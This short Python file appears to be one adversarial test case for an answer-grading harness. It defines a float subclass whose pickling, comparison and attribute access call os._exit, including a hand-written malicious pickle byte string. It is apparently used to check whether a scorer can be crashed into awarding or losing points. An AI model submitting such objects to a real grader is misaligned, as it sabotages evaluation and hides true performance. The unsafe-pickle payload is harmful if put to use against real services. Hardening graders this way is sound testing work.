"""Objects whose pickled form runs a command, and whose text is a pickle.

Kind: Strange answers
Relies on: answers that are pickled to cross a process
Breaks naive: points
"""

import os


class Bomb(float):
    def __reduce_ex__(self, protocol):
        return os._exit, (0,)

    def __eq__(self, other):
        __import__("pickle").loads(b"cos\n_exit\n(I0\ntR.")

    def __getattribute__(self, name):
        os._exit(0)

    __float__ = __round__ = __sub__ = __rsub__ = __eq__
    __hash__ = None


_answer_everywhere(lambda *args: Bomb(3.0))
